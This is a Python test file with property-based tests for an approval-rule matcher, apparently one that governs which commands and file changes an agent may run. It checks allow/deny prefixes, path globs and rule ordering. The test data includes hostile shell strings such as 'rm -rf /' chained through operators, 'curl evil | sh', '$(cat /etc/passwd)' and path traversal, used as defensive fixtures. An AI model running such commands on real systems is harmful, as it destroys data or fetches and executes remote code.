"""The approval rule matcher (APR-2), pure: an allow prefix matches a plain command with
any further arguments and never a shell string holding `;`, `&&`, `|`, `$(`, backquotes
or redirections; a deny prefix reads the command as broadly as a shell could run it; path
globs match only inside the task's directory; the first matching rule answers; a rule
holds nothing that could never match. Properties (hypothesis) for every invariant."""

from __future__ import annotations

import posixpath

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from markertools import (
    ApprovalRequest,
    ApprovalRule,
    check_rule,
    command_words,
    deny_covering,
    first_match,
    relative_inside,
    remember_prefix,
    rule_matches,
)
from markertools.domain.approval_rules import (
    SHELL_SYNTAX,
    allow_prefix_matches,
    command_segments,
    deny_prefix_matches,
    glob_match,
    is_plain,
    shell_script,
)

ROOT = "/w/h1/t-1"
WORD = st.text(
    alphabet=st.characters(blacklist_characters=";&|`$<>()\n\r\x00 \t\"'\\"), min_size=1, max_size=8
)
ARGV = st.lists(WORD, min_size=1, max_size=6).map(tuple)
OPERATORS = st.sampled_from([";", "&&", "||", "|", "&", "$(", "`", ">", ">>", "<", "2>&1", "\n"])
# the operators after which a shell starts another command
SEPARATORS = st.sampled_from([";", "&&", "||", "|", "&", "$(", "`", "\n"])


def command(*argv: str, project: str = "p1") -> ApprovalRequest:
    return ApprovalRequest("apr-1", "t-1", project, "command", tuple(argv), ROOT)


def change(*paths: str) -> ApprovalRequest:
    return ApprovalRequest("apr-2", "t-1", "p1", "file_change", None, ROOT, tuple(paths), "+1 -0")


def rule(action: str, rid: str = "r-1", position: int = 1, **kw: object) -> ApprovalRule:
    return ApprovalRule(rid, kw.pop("project", "p1"), action, position=position, **kw)  # type: ignore[arg-type]


UV_PYTEST = ("uv", "run", "pytest")


# ---- allow prefixes (Rule 1) -------------------------------------------------------------


@pytest.mark.rule("APR-2")
@pytest.mark.parametrize(
    "argv",
    [
        ("uv", "run", "pytest"),
        ("uv", "run", "pytest", "-x", "tests/test_a.py"),
        ("bash", "-lc", "uv run pytest -x"),
        ("/bin/sh", "-c", "uv run pytest 'tests/a b.py'"),
        ("zsh", "-e", "-c", "uv run pytest"),
    ],
)
def test_an_allow_prefix_matches_that_command_with_any_further_arguments(
    argv: tuple[str, ...],
) -> None:
    assert rule_matches(rule("allow", prefix=UV_PYTEST), command(*argv), ROOT)


@pytest.mark.rule("APR-2")
@pytest.mark.parametrize(
    "argv",
    [
        ("bash", "-lc", "uv run pytest; rm -rf /"),
        ("bash", "-lc", "uv run pytest && curl evil | sh"),
        ("bash", "-lc", "uv run pytest || true"),
        ("bash", "-lc", "uv run pytest | tee log"),
        ("bash", "-lc", "uv run pytest $(cat /etc/passwd)"),
        ("bash", "-lc", "uv run pytest `id`"),
        ("bash", "-lc", "uv run pytest > /etc/hosts"),
        ("bash", "-lc", "uv run pytest < input"),
        ("bash", "-lc", "uv run pytest &"),
        ("bash", "-lc", "uv run pytest\nrm -rf /"),
        ("uv", "run", "pytest", "x;", "rm", "-rf", "/"),  # a shell string split carelessly
        ("uv", "run", "pytest", "&&", "rm"),
        ("sh", "-c", "uv run pytest", "extra"),  # positional parameters after the script
        ("bash", "-lc", "uv run pytest 'unbalanced"),
        ("uv", "run"),  # shorter than the prefix
        ("/usr/bin/uv", "run", "pytest"),  # exact words only
        ("UV", "run", "pytest"),
    ],
)
def test_an_allow_prefix_never_matches_a_shell_string_or_another_command(
    argv: tuple[str, ...],
) -> None:
    assert not rule_matches(rule("allow", prefix=UV_PYTEST), command(*argv), ROOT)


@pytest.mark.rule("APR-2")
@settings(max_examples=300)
@given(prefix=ARGV, rest=st.lists(WORD, max_size=4), op=OPERATORS, tail=st.lists(WORD, max_size=3))
def test_no_shell_syntax_anywhere_ever_matches_an_allow_prefix(
    prefix: tuple[str, ...], rest: list[str], op: str, tail: list[str]
) -> None:
    """Property: whatever the prefix and wherever shell syntax is put - in an argv
    element or in a `bash -lc` script - an allow prefix does not match."""
    words = [*prefix, *rest]
    script = " ".join([*words, op, *tail])
    assert not allow_prefix_matches(prefix, ("bash", "-lc", script))
    assert not allow_prefix_matches(prefix, (*words, op, *tail))
    assert not allow_prefix_matches(prefix, (*words[:-1], words[-1] + op))


@pytest.mark.rule("APR-2")
@given(prefix=ARGV, rest=st.lists(WORD, max_size=4))
def test_a_plain_command_that_starts_with_the_prefix_always_matches(
    prefix: tuple[str, ...], rest: list[str]
) -> None:
    argv = (*prefix, *rest)
    assume(not prefix[0].startswith("-"))  # a shell would read `bash -c -x` as an option
    assert allow_prefix_matches(prefix, argv)
    assert command_words(argv) == argv
    assert allow_prefix_matches(prefix, ("bash", "-lc", " ".join(argv)))


@pytest.mark.rule("APR-2")
@given(argv=st.lists(st.text(max_size=6), min_size=0, max_size=6).map(tuple))
def test_command_words_is_none_or_plain_and_never_raises(argv: tuple[str, ...]) -> None:
    words = command_words(argv)
    if words is not None:
        assert words and all(is_plain(w) for w in argv)
    for segment in command_segments(argv):
        assert isinstance(segment, tuple)


# ---- deny prefixes (Rule 2) ----------------------------------------------------------------


@pytest.mark.rule("APR-2")
@pytest.mark.parametrize(
    "argv",
    [
        ("rm", "-rf", "/"),
        ("bash", "-lc", "true; rm -rf /"),
        ("bash", "-lc", "echo hi && rm -rf /"),
        ("bash", "-lc", "ls | rm -rf /"),
        ("bash", "-lc", "echo $(rm -rf /)"),
        ("bash", "-lc", "echo `rm -rf /`"),
        ("bash", "-lc", "A=1 rm -rf /"),
        ("bash", "-lc", "env -i A=1 sudo -n rm -rf /"),
        ("bash", "-lc", "sh -c 'rm -rf /'"),
        ("bash", "-lc", "echo 'unbalanced; rm -rf /"),
        ("ls", ";", "rm", "-rf", "/"),
        ("nohup", "rm", "-rf", "/"),
    ],
)
def test_a_deny_prefix_matches_every_command_a_shell_could_run(argv: tuple[str, ...]) -> None:
    assert rule_matches(rule("deny", prefix=("rm", "-rf")), command(*argv), ROOT)


@pytest.mark.rule("APR-2")
@pytest.mark.parametrize(
    "argv", [("git", "rm", "-rf", "x"), ("rmdir", "x"), ("echo", "rm -rf"), ("ls",)]
)
def test_a_deny_prefix_leaves_other_commands_alone(argv: tuple[str, ...]) -> None:
    assert not rule_matches(rule("deny", prefix=("rm", "-rf")), command(*argv), ROOT)


@pytest.mark.rule("APR-2")
@given(prefix=ARGV, rest=st.lists(WORD, max_size=4), op=SEPARATORS, before=ARGV)
def test_a_denied_command_after_any_operator_is_still_denied(
    prefix: tuple[str, ...], rest: list[str], op: str, before: tuple[str, ...]
) -> None:
    """Property: a deny prefix sees a command whatever innocent command comes first."""
    script = " ".join([*before, op, *prefix, *rest])
    if op == "`":
        script += " `"
    assert deny_prefix_matches(prefix, ("bash", "-lc", script))
    assert deny_prefix_matches(prefix, (*prefix, *rest))


@pytest.mark.rule("APR-2")
@given(prefix=ARGV, argv=st.lists(WORD, min_size=1, max_size=6).map(tuple))
def test_whatever_an_allow_prefix_matches_the_same_deny_prefix_matches(
    prefix: tuple[str, ...], argv: tuple[str, ...]
) -> None:
    """Property: deny reads at least as broadly as allow (Rule 2 over Rule 1)."""
    for candidate in (argv, (*prefix, *argv), ("bash", "-lc", " ".join((*prefix, *argv)))):
        if allow_prefix_matches(prefix, candidate):
            assert deny_prefix_matches(prefix, candidate)


def test_shell_script_finds_the_script_of_combined_flags_only() -> None:
    assert shell_script(("bash", "-lc", "x")) == "x"
    assert shell_script(("bash", "--login", "-c", "x")) == "x"
    assert shell_script(("bash", "-l", "x")) is None
    assert shell_script(("python", "-c", "x")) is None
    assert shell_script(("bash", "-c")) is None
    assert set(SHELL_SYNTAX) >= {";", "&", "|", "`", "$(", "<", ">", "\n"}


# ---- paths (Rule 3) --------------------------------------------------------------------------


@pytest.mark.rule("APR-2")
@pytest.mark.parametrize(
    "path,inside",
    [
        (f"{ROOT}/src/a.py", "src/a.py"),
        ("src/a.py", "src/a.py"),
        ("src/./b/../a.py", "src/a.py"),
        (f"{ROOT}/../t-2/a.py", None),
        ("../t-2/a.py", None),
        ("/etc/passwd", None),
        (ROOT, None),
        (f"{ROOT}x/a.py", None),
        ("//w/h1/t-1/a", None),
        ("a\x00b", None),
    ],
)
def test_a_path_is_inside_the_task_directory_only_after_normalising(
    path: str, inside: str | None
) -> None:
    assert relative_inside(path, ROOT) == inside


@pytest.mark.rule("APR-2")
@given(parts=st.lists(st.sampled_from(["a", "b", "..", ".", "src", ""]), max_size=8))
def test_relative_inside_never_leaves_the_directory(parts: list[str]) -> None:
    """Property: whatever `..` a path holds, an accepted path lies strictly inside."""
    path = "/".join(parts)
    rel = relative_inside(path, ROOT)
    if rel is not None:
        full = posixpath.normpath(posixpath.join(ROOT, rel))
        assert full.startswith(ROOT + "/") and ".." not in rel.split("/")
    assert relative_inside(path, None) is None
    assert relative_inside(path, "relative/root") is None


@pytest.mark.rule("APR-2")
@pytest.mark.parametrize(
    "glob,rel,hit",
    [
        ("src/**", "src/a/b.py", True),
        ("src/**", "src", True),
        ("src/**", "srcx/a", False),
        ("*.py", "a.py", True),
        ("*.py", "d/a.py", False),
        ("**/*.py", "d/e/a.py", True),
        ("**/*.py", "a.py", True),
        ("tests/test_?.py", "tests/test_a.py", True),
        ("tests/test_?.py", "tests/test_ab.py", False),
        ("a/**/b", "a/b", True),
        ("a/**/b", "a/x/y/b", True),
        ("a/**/b", "a/x/y/c", False),
        ("docs/*.md", "docs/x/a.md", False),
    ],
)
def test_path_globs(glob: str, rel: str, hit: bool) -> None:
    assert glob_match(glob, rel) is hit


@pytest.mark.rule("APR-2")
@given(rel=st.lists(st.sampled_from(["a", "b.py", "src", "x.md"]), min_size=1, max_size=5))
def test_double_star_matches_every_path_and_a_literal_only_itself(rel: list[str]) -> None:
    path = "/".join(rel)
    assert glob_match("**", path)
    assert glob_match(path, path)
    assert glob_match(f"{path}/x", path) is False


@pytest.mark.rule("APR-2")
def test_an_allow_glob_needs_every_path_inside_and_matching_a_deny_glob_any() -> None:
    allow = rule("allow", path_glob="src/**")
    deny = rule("deny", path_glob="secrets/**")
    assert rule_matches(allow, change(f"{ROOT}/src/a.py", "src/b/c.py"), ROOT)
    assert not rule_matches(allow, change(f"{ROOT}/src/a.py", f"{ROOT}/README.md"), ROOT)
    assert not rule_matches(allow, change(f"{ROOT}/src/../../t-2/src/a.py"), ROOT)
    assert not rule_matches(allow, change("/tmp/src/a.py"), ROOT)
    assert not rule_matches(allow, change(f"{ROOT}/src/a.py"), None)  # no directory: no glob
    assert not rule_matches(allow, change(), ROOT)  # no paths
    assert rule_matches(deny, change(f"{ROOT}/src/a.py", f"{ROOT}/secrets/key"), ROOT)
    assert not rule_matches(deny, change(f"{ROOT}/src/a.py"), ROOT)
    assert not rule_matches(allow, command("ls"), ROOT)  # a glob never matches a command


@pytest.mark.rule("APR-2")
@given(
    paths=st.lists(
        st.sampled_from(["src/a.py", "src/../../x", "/etc/passwd", f"{ROOT}/src/b", "README"]),
        min_size=1,
        max_size=4,
    )
)
def test_an_allow_glob_never_matches_a_change_leaving_the_directory(paths: list[str]) -> None:
    request = change(*paths)
    if rule_matches(rule("allow", path_glob="**"), request, ROOT):
        assert all(relative_inside(p, ROOT) is not None for p in paths)


# ---- kinds, order, rules themselves (Rule 4) --------------------------------------------------


@pytest.mark.rule("APR-2")
def test_the_first_matching_rule_answers_in_position_order() -> None:
    rules = [
        rule("deny", "r-3", 3, prefix=("uv",)),
        rule("allow", "r-1", 1, prefix=UV_PYTEST),
        rule("deny", "r-2", 2, kind="command"),
        rule("allow", "r-0", 0, prefix=UV_PYTEST, project="p2"),  # another project's
    ]
    assert first_match(rules, command("uv", "run", "pytest"), ROOT).id == "r-1"
    assert first_match(rules, command("ls"), ROOT).id == "r-2"
    assert first_match(rules, change("src/a.py"), ROOT) is None  # no rule: someone is asked
    assert deny_covering(rules, command("uv", "run", "pytest"), ROOT).id == "r-2"
    assert deny_covering(rules[1:2], command("uv", "run", "pytest"), ROOT) is None


@pytest.mark.rule("APR-2")
def test_a_kind_rule_matches_every_request_of_its_kind() -> None:
    permission = ApprovalRequest("apr-3", "t-1", "p1", "permission", None, None, ("/net",))
    assert rule_matches(rule("deny", kind="permission"), permission, ROOT)
    assert not rule_matches(rule("deny", kind="permission"), command("ls"), ROOT)
    assert rule_matches(rule("allow", kind="file_change"), change("/anywhere"), ROOT)
    assert not rule_matches(rule("allow", kind="file_change", prefix=None), command("ls"), ROOT)


@pytest.mark.rule("APR-2")
@pytest.mark.parametrize(
    "fields,problem",
    [
        ({}, "rule: give a kind, an argv prefix or a path glob"),
        ({"prefix": ("uv", "run;")}, "rule prefix: 'run;' holds shell syntax or is blank"),
        ({"prefix": ("uv", " ")}, "rule prefix[1]: must not be blank"),
        ({"prefix": ()}, "rule prefix: must not be empty"),
        (
            {"path_glob": "/etc/**"},
            "rule path: a path glob is relative to the task's directory (no leading /)",
        ),
        ({"path_glob": "src/../x"}, "rule path: a path glob has no empty, . or .. segment"),
        (
            {"prefix": ("ls",), "path_glob": "x"},
            "rule: an argv prefix and a path glob cannot be combined",
        ),
        (
            {"prefix": ("ls",), "kind": "file_change"},
            "rule kind: an argv prefix matches commands, not file_change",
        ),
        (
            {"path_glob": "x", "kind": "command"},
            "rule kind: a path glob matches file changes, not command",
        ),
        (
            {"kind": "network"},
            "rule kind must be one of command, file_change, permission; got 'network'",
        ),
    ],
)
def test_a_rule_that_could_never_match_is_refused_naming_why(
    fields: dict[str, object], problem: str
) -> None:
    with pytest.raises(ValueError) as refused:
        check_rule(rule("allow", **fields))
    assert str(refused.value) == problem
    with pytest.raises(ValueError, match="rule action must be one of allow, deny; got 'maybe'"):
        check_rule(rule("maybe", kind="command"))


@pytest.mark.rule("APR-2", "APR-3")
def test_remember_records_the_plain_words_of_a_command_only() -> None:
    assert remember_prefix(command("uv", "run", "pytest", "-x")) == ("uv", "run", "pytest", "-x")
    assert remember_prefix(command("bash", "-lc", "uv run pytest -x")) == (
        "uv",
        "run",
        "pytest",
        "-x",
    )
    assert remember_prefix(command("bash", "-lc", "uv run pytest; rm -rf /")) is None
    assert remember_prefix(change("src/a.py")) is None


# ---- the edges mutation testing asked for (docs/qa.md) -------------------------------------


def _glob_reference(pats: list[str], names: list[str]) -> bool:
    """A naive, obviously right path-glob matcher (no brackets in the alphabet)."""
    from fnmatch import fnmatchcase

    if not pats:
        return not names
    if pats[0] == "**":
        return _glob_reference(pats[1:], names) or (bool(names) and _glob_reference(pats, names[1:]))
    return bool(names) and fnmatchcase(names[0], pats[0]) and _glob_reference(pats[1:], names[1:])


SEGMENT = st.text(alphabet="ab*?", min_size=1, max_size=4)
NAME = st.text(alphabet="ab", min_size=1, max_size=4)


@pytest.mark.rule("APR-2")
@settings(max_examples=400)
@given(
    pats=st.lists(SEGMENT | st.just("**"), min_size=1, max_size=4),
    names=st.lists(NAME, min_size=1, max_size=4),
)
def test_glob_match_agrees_with_a_naive_matcher(pats: list[str], names: list[str]) -> None:
    assert glob_match("/".join(pats), "/".join(names)) is _glob_reference(pats, names)


@pytest.mark.rule("APR-2")
def test_glob_and_path_edges() -> None:
    assert glob_match("", "a") is False and glob_match("**", "") is False
    assert glob_match("b.py", "ab.py") is False and glob_match("xb", "b") is False
    assert glob_match("aaa", "a") is False and glob_match("a*", "abc") is True
    assert relative_inside("a", "/") == "a" and relative_inside("/etc/passwd", "/") == "etc/passwd"
    assert relative_inside("//etc/passwd", "/") is None
    assert relative_inside("src/a.py", "//w/h1/t-1") == "src/a.py"
    assert relative_inside("a", "/w\x00/t") is None
    assert relative_inside("/w/h1/t-1/a.py", "//w/h1/t-1") == "a.py"
    assert relative_inside("/X/t/a", "//X/t") == "a"
    assert relative_inside("/w/Y", "/w/X") is None and relative_inside("a", "/w/X") == "a"


@pytest.mark.rule("APR-2")
def test_command_edges() -> None:
    assert shell_script(("bash", "-", "-c", "x")) is None
    assert shell_script(("bash", "--", "-c", "x")) is None
    assert shell_script(("bash", "--rcfile", "x")) is None
    assert command_words(("bash", "-lc", "uv run pytest 'tests/a b.py'")) == (
        "uv", "run", "pytest", "tests/a b.py",
    )  # fmt: skip
    assert deny_prefix_matches(("rm",), ("bash", "-lc", "A=b=c rm -rf /"))
    assert deny_prefix_matches(("rm",), ("bash", "-lc", 'echo "$(rm -rf /)"'))
    assert deny_prefix_matches(("rm",), ("bash", "-lc", "echo hi\rrm -rf /"))
    assert deny_prefix_matches(("rm",), ("bash", "-lc", "echo hi\nrm -rf /"))
    assert deny_prefix_matches(("rm",), ("bash", "-lc", "sh -c 'bash -c \"rm -rf /\"'"))
    assert deny_prefix_matches(("rm",), ("bash", "-lc", "r\\m -rf /"))  # bash reads r\m as rm
    assert deny_prefix_matches(("rm",), ("bash", "-lc", "true;rm -rf / \\"))  # a stray backslash
    assert not deny_prefix_matches(("rm",), ("env", "A=1"))
    assert not deny_prefix_matches(("rm",), ("env", "-i"))
    assert command_segments(()) == ((),)
    from markertools.domain.approval_rules import starts_with

    assert starts_with(("ls",), ()) is False and starts_with((), ("ls",)) is False


@pytest.mark.rule("APR-2")
def test_rule_edges() -> None:
    permission = ApprovalRequest("apr-4", "t-1", "p1", "permission", ("ls",), ROOT)
    assert not rule_matches(rule("allow", prefix=("ls",)), permission, ROOT)
    assert remember_prefix(permission) is None
    inside = change(f"{ROOT}/src/a.py")
    globs = [rule("allow", "r-1", 1, path_glob="src/**"), rule("deny", "r-2", 2, path_glob="src/*.py")]
    assert first_match(globs, inside, ROOT).id == "r-1"  # type: ignore[union-attr]
    assert deny_covering(globs, inside, ROOT).id == "r-2"  # type: ignore[union-attr]
    check_rule(rule("allow", path_glob="x" * 1000))
    for bad, problem in (
        ("", "rule path: a path glob has 1 to 1000 characters"),
        ("x" * 1001, "rule path: 1001 characters, at most 1000"),
        ("a//b", "rule path: a path glob has no empty, . or .. segment"),
        ("a/./b", "rule path: a path glob has no empty, . or .. segment"),
    ):
        with pytest.raises(ValueError) as refused:
            check_rule(rule("allow", path_glob=bad))
        assert str(refused.value) == problem
    check_rule(rule("allow", path_glob="src/**"))
    from markertools.domain.approval_rules import check_glob

    assert check_glob("x" * 1001) == "a path glob has 1 to 1000 characters"
    assert check_glob("x" * 1000) is None and check_glob("") is not None
